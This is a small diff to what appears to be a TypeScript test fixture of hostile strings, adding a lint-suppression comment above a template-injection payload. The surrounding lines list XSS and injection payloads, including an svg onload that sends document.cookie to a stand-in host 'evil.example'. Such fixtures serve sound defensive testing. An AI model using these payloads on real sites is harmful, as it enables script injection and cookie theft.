@@ -7,6 +7,7 @@ export const hostileStrings: Record<string, string> = {
   image: '"><img src=x onerror=alert(1)>',
   svg: "<svg/onload=fetch('//evil.example/'+document.cookie)>",
   attribute: "' autofocus onfocus=alert(1) x='",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
   template: '{{constructor.constructor("alert(1)")()}} ${7*7} <%= 7*7 %>',
   commentEnd: '--></script></style></textarea></title>]]>',
   javascriptLink: 'javascript:alert(1)',
